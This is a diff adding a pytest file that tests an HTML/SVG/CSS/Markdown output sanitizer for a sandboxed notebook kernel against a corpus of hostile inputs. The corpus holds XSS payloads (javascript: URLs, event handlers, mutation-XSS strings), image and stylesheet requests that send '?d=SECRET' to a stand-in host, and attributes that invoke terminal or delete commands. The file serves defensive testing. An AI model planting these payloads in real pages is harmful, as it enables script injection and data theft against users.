@@ -1,0 +1,252 @@
+"""The output policy on a corpus of hostile HTML, SVG, CSS and Markdown (in-process, no kernel).
+
+Each sanitized output is parsed again and checked for anything that could run script or make
+the browser fetch by itself; the real-browser proof is tests/test_browser.py.
+"""
+
+from __future__ import annotations
+
+import base64
+import html.parser
+import re
+
+import pytest
+
+from sandbox_kernel.events import Display
+from sandbox_kernel.policy import OutputPolicy
+from sandbox_kernel.sanitize import Sanitizer, clean_declarations, clean_stylesheet
+
+HANDLERS = ["onerror", "onload", "onclick", "onmouseover", "onfocus", "onanimationstart", "onbegin", "ontoggle",
+            "onpointerenter", "onbeforetoggle", "onwheel", "ONERROR", "OnLoad"]
+JS_URLS = ["javascript:alert(1)", "JaVaScRiPt:alert(1)", " javascript:alert(1)", "jav&#x09;ascript:alert(1)",
+           "jav&#x0A;ascript:alert(1)", "&#106;avascript:alert(1)", "\x01javascript:alert(1)",
+           "vbscript:msgbox(1)", "data:text/html,<script>alert(1)</script>",
+           "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="]
+HOSTILE_HTML = [
+    "<script>alert(1)</script>", "<SCRIPT SRC=http://x.example/x.js></SCRIPT>", "<scr<script>ipt>alert(1)</script>",
+    *(f'<img src=x {h}="alert(1)">' for h in HANDLERS),
+    *(f'<div {h}="alert(1)">x</div>' for h in HANDLERS),
+    "<img/src=x/onerror=alert(1)>", "<body onload=alert(1)>", "<details open ontoggle=alert(1)>",
+    *(f'<a href="{u}">x</a>' for u in JS_URLS), *(f'<img src="{u}">' for u in JS_URLS),
+    *(f'<area href="{u}">' for u in JS_URLS),
+    '<img srcset="javascript:alert(1) 1x">', '<form action="javascript:alert(1)"><input type=submit></form>',
+    '<button formaction="javascript:alert(1)">x</button>', '<iframe src="javascript:alert(1)"></iframe>',
+    '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>', '<object data="javascript:alert(1)"></object>',
+    '<embed src="javascript:alert(1)">', '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
+    '<base href="javascript:alert(1)//">', '<link rel="import" href="http://x.example/x.html">',
+    '<svg><script>alert(1)</script></svg>', '<svg onload="alert(1)"></svg>', '<svg><a xlink:href="javascript:alert(1)">'
+    '<text>x</text></a></svg>', '<svg><animate attributeName="href" to="javascript:alert(1)"/></svg>',
+    '<svg><use href="data:image/svg+xml;base64,PHN2ZyBpZD0neCc+PC9zdmc+#x"/></svg>',
+    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
+    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
+    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
+    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
+    '<div style="background:url(javascript:alert(1))">x</div>', '<div style="width:expression(alert(1))">x</div>',
+    '<div style="behavior:url(x.htc)">x</div>', '<div style="-moz-binding:url(x.xml#x)">x</div>',
+    '<style>@import "http://x.example/x.css";</style>', '<style>b{background:url("javascript:alert(1)")}</style>',
+    '<button data-commandlinker-command="terminal:create-new">open</button>',
+    '<a data-commandlinker-command="filebrowser:delete" data-commandlinker-args="{}">click</a>',
+    '<template><script>alert(1)</script></template>', '<marquee onstart=alert(1)>x</marquee>',
+    '<input autofocus onfocus=alert(1)>', '<video><source onerror="alert(1)"></video>', '<audio src=x onerror=alert(1)>',
+]
+EXFILTRATION = [
+    '<img src="https://x.example/?d=SECRET">', '<img src="//x.example/x">', '<img src="/files/secret.png">',
+    '<img srcset="https://x.example/x 1x">', '<picture><source srcset="https://x.example/x"><img></picture>',
+    '<link rel="stylesheet" href="https://x.example/x.css">', '<video poster="https://x.example/x"></video>',
+    '<audio src="https://x.example/x"></audio>', '<input type="image" src="https://x.example/x">',
+    '<table background="https://x.example/x"><tr><td>1</td></tr></table>', '<body background="https://x.example/x">',
+    '<div style="background-image:url(https://x.example/x)">x</div>', '<div style="background:url(//x.example/x)">x</div>',
+    '<div style="list-style:url(https://x.example/x)">x</div>', '<div style="cursor:url(https://x.example/x),auto">x</div>',
+    '<style>.a{background:url(https://x.example/x)}</style>', '<style>@font-face{font-family:x;src:url(https://x.example/f)}</style>',
+    '<style>@import url(https://x.example/x.css);</style>', '<style>@media screen{.a{background:url(https://x.example/x)}}</style>',
+    '<div style="background-image:image-set(\'https://x.example/x\' 1x)">x</div>', '<object data="https://x.example/x"></object>',
+    '<svg><image href="https://x.example/x.png"/></svg>', '<svg><use href="https://x.example/x.svg#a"/></svg>',
+    '<embed src="https://x.example/x">', '<iframe src="https://x.example/"></iframe>',
+]
+NOT_HTML_IN_A_BROWSER_EITHER = {  # parsed as a fragment, as innerHTML does: nothing active to remove
+    "<scr<script>ipt>alert(1)</script>",  # a tag named "scr<script"
+    "<body onload=alert(1)>", '<body background="https://x.example/x">',  # <body> is ignored in a fragment
+}
+ACTIVE_TAGS = {"script", "iframe", "object", "embed", "meta", "base", "form", "input", "button", "link", "frame",
+               "frameset", "applet", "video", "audio", "source", "picture", "template", "svg", "math", "animate",
+               "set", "image", "noscript", "marquee"}
+
+
+class _Collect(html.parser.HTMLParser):
+    def __init__(self):
+        super().__init__(convert_charrefs=True)
+        self.tags, self.attrs, self.css = [], [], []
+        self._in_style = False
+
+    def handle_starttag(self, tag, attrs):
+        self.tags.append(tag)
+        self.attrs += [(tag, name, value or "") for name, value in attrs]
+        self._in_style = tag == "style"
+
+    def handle_endtag(self, tag):
+        self._in_style = False
+
+    def handle_data(self, data):
+        if self._in_style:
+            self.css.append(data)
+
+
+def assert_inert(clean: str, *, svg: bool = False) -> None:
+    """Nothing in ``clean`` runs script or makes the browser fetch by itself."""
+    parsed = _Collect()
+    parsed.feed(clean)
+    allowed_active = {"svg", "image"} if svg else set()
+    assert not (set(parsed.tags) & (ACTIVE_TAGS - allowed_active)), clean
+    for tag, name, value in parsed.attrs:
+        scheme = re.sub(r"[\x00-\x20]", "", value).lower()
+        assert not name.startswith("on"), clean
+        assert name not in ("srcset", "formaction", "action", "background", "poster", "data") and \
+            not name.startswith("data-"), clean
+        if name in ("href", "src", "xlink:href"):
+            assert not scheme.startswith(("javascript:", "vbscript:", "data:text")), clean
+            if tag not in ("a", "area"):
+                assert scheme.startswith(("data:image/", "#")), clean
+        if name == "style":
+            parsed.css.append(value)
+    for css in parsed.css:
+        assert not re.search(r"url\s*\(|expression|@import|@font-face|behavior|binding|image-set", css, re.I), clean
+
+
+@pytest.mark.parametrize("source", HOSTILE_HTML + EXFILTRATION)
+def test_hostile_html_is_inert_and_reported(source):
+    clean, changed = Sanitizer().html(source)
+    assert_inert(clean)
+    assert changed or source in NOT_HTML_IN_A_BROWSER_EITHER, source
+
+
+@pytest.mark.parametrize("source", HOSTILE_HTML + EXFILTRATION)
+def test_hostile_svg_is_inert(source):
+    document = f'<svg xmlns="http://www.w3.org/2000/svg">{source}</svg>'
+    clean, _ = Sanitizer().svg(document)
+    assert_inert(clean, svg=True)
+
+
+@pytest.mark.parametrize("source", [
+    "![x](https://x.example/?d=SECRET)", "[x](javascript:alert(1))", 'hi <img src=x onerror="alert(1)">',
+    "[x][r]\n\n[r]: javascript:alert(1)", "![y][i]\n\n[i]: https://x.example/i.png", "<script>alert(1)</script>",
+    "<https://x.example/>", "<details open ontoggle=alert(1)>", '<a href="javascript:alert(1)">x</a>',
+])
+def test_hostile_markdown_becomes_clean_html(source):
+    data, changed = OutputPolicy().bundle({"text/markdown": source, "text/plain": "md"})
+    assert "text/markdown" not in data
+    assert_inert(data["text/html"])
+    assert data["text/plain"] == "md"
+
+
+def test_what_data_tools_emit_is_kept():
+    pd = pytest.importorskip("pandas")
+    sanitizer = Sanitizer()
+    frame = pd.DataFrame({"a": [1, 2], "b": ["<x>", "y"]})
+    for source in (frame._repr_html_(), frame.style.background_gradient(subset=["a"]).to_html(),
+                   "<b>bold</b> <i>it</i> <code>x</code>", '<img src="data:image/png;base64,iVBORw0KGgo=" width="20">',
+                   '<span style="color: red; font-weight: bold">x</span>', '<a href="https://jupyter.org">docs</a>'):
+        clean, changed = sanitizer.html(source)
+        assert not changed, source
+    clean, _ = sanitizer.html(frame._repr_html_())
+    assert "<table" in clean and "<style" in clean and "&lt;x&gt;" in clean
+    link, _ = sanitizer.html('<a href="https://jupyter.org">docs</a>')
+    assert 'target="_blank"' in link and 'rel="noopener noreferrer"' in link
+
+
+def test_matplotlib_svg_keeps_its_drawing():
+    import io
+
+    matplotlib = pytest.importorskip("matplotlib")
+    matplotlib.use("svg")
+    import matplotlib.pyplot as plt
+
+    fig, ax = plt.subplots(figsize=(2, 1))
+    ax.plot([1, 2, 3])
+    ax.set_title("Title")
+    buffer = io.StringIO()
+    fig.savefig(buffer, format="svg")
+    plt.close(fig)
+    clean, changed = Sanitizer().svg(buffer.getvalue())
+    assert not changed
+    assert clean.startswith("<svg") and 'xmlns:xlink="http://www.w3.org/1999/xlink"' in clean
+    assert clean.count("<use") == buffer.getvalue().count("<use") and "<path" in clean
+
+
+def test_css_cleaning_keeps_safe_declarations():
+    assert clean_declarations("color: red; font-weight: bold") == ("color: red; font-weight: bold", False)
+    assert clean_declarations("color:red; background:url(https://x.example/)")[0] == "color:red"
+    css, changed = clean_stylesheet("@import url(x.css); .a{color:red;background:url(x)} @media print{.b{color:blue}}")
+    assert changed and "@import" not in css and "url" not in css and "color:red" in css and "@media print" in css
+
+
+def test_allowed_origins_let_their_images_load():
+    sanitizer = Sanitizer(["https://cdn.example.org"])
+    kept, changed = sanitizer.html('<img src="https://cdn.example.org/a.png">')
+    assert not changed and 'src="https://cdn.example.org/a.png"' in kept
+    dropped, changed = sanitizer.html('<img src="https://cdn.example.org.evil.example/a.png">')
+    assert changed and "src" not in dropped
+
+
+# -- MIME bundles ---------------------------------------------------------------------------------------------
+def test_script_types_are_dropped_with_a_note_naming_the_option():
+    policy = OutputPolicy()
+    for mime in ("application/javascript", "text/javascript", "application/vnd.bokehjs_exec.v0+json",
+                 "application/vnd.holoviews_load.v0+json"):
+        data, changed = policy.bundle({mime: "alert(1)", "text/plain": "<IPython.core.display.Javascript object>"})
+        assert changed and mime not in data
+        assert "--SandboxKernel.output_policy=isolate" in data["text/plain"]
+
+
+def test_data_only_and_unknown_types_pass_unchanged():
+    bundle = {"image/png": base64.b64encode(b"png").decode(), "application/json": {"a": 1},
+              "application/vnd.vegalite.v5+json": {"mark": "bar"}, "application/vnd.plotly.v1+json": {"data": []},
+              "application/vnd.e2b.chart+json": {"type": "line"}, "application/x-custom": "x", "text/plain": "t",
+              "text/latex": "$x$", "text/markdown": "# plain *markdown* with $x^2$"}
+    for mode in ("sanitize", "isolate"):
+        data, changed = OutputPolicy(mode).bundle(bundle)
+        assert data is bundle and not changed
+
+
+def test_isolate_frames_active_content_in_an_opaque_origin():
+    policy = OutputPolicy("isolate", ["https://cdn.example.org"])
+    hostile = "<canvas id=c></canvas><script>document.getElementById('c').dataset.drawn = 1</script>"
+    data, changed = policy.bundle({"text/html": hostile})
+    frame = data["text/html"]
+    assert changed and frame.startswith("<iframe ") and 'sandbox="allow-scripts"' in frame
+    assert "allow-same-origin" not in frame
+    srcdoc = html.unescape(re.search(r'srcdoc="([^"]*)"', frame).group(1))
+    assert hostile in srcdoc and "Content-Security-Policy" in srcdoc and "https://cdn.example.org" in srcdoc
+    plain, changed = policy.bundle({"text/html": "<b>x</b>"})  # nothing active: not framed
+    assert plain == {"text/html": "<b>x</b>"} and not changed
+    script, _ = policy.bundle({"application/javascript": "document.body.textContent = 'hi'"})
+    assert script["text/html"].startswith("<iframe ") and "application/javascript" not in script
+
+
+def test_chart_specs_lose_the_urls_their_renderers_would_fetch():
+    spec = {"data": {"url": "https://x.example/?d=SECRET"}, "mark": "bar",
+            "layer": [{"mark": "image", "data": {"values": [{"url": "data:image/png;base64,AAAA"}]}}]}
+    data, changed = OutputPolicy().bundle({"application/vnd.vegalite.v5+json": spec})
+    assert changed and data["application/vnd.vegalite.v5+json"] == {
+        "data": {}, "mark": "bar", "layer": [{"mark": "image", "data": {"values": [{"url": "data:image/png;base64,AAAA"}]}}]}
+    plotly = {"data": [], "layout": {"images": [{"source": "https://x.example/a.png", "x": 0}]}}
+    data, changed = OutputPolicy().bundle({"application/vnd.plotly.v1+json": plotly})
+    assert changed and data["application/vnd.plotly.v1+json"]["layout"]["images"] == [{"x": 0}]
+    kept = {"data": {"url": "https://cdn.example.org/d.json"}}
+    allowed = OutputPolicy(allowed_origins=["https://cdn.example.org"])
+    assert allowed.bundle({"application/vnd.vega.v5+json": kept}) == ({"application/vnd.vega.v5+json": kept}, False)
+
+
+def test_trust_passes_everything():
+    bundle = {"text/html": "<script>alert(1)</script>", "application/javascript": "alert(1)"}
+    assert OutputPolicy("trust").bundle(bundle) == (bundle, False)
+
+
+def test_display_keeps_metadata_and_display_id():
+    event = Display({"text/html": "<img src=x onerror=alert(1)>"}, {"isolated": False}, display_id="d", update=True)
+    clean, changed = OutputPolicy().display(event)
+    assert changed and clean.metadata == event.metadata and clean.display_id == "d" and clean.update
+
+
+def test_unknown_policy_is_refused():
+    with pytest.raises(ValueError, match="unknown output policy"):
+        OutputPolicy("off")
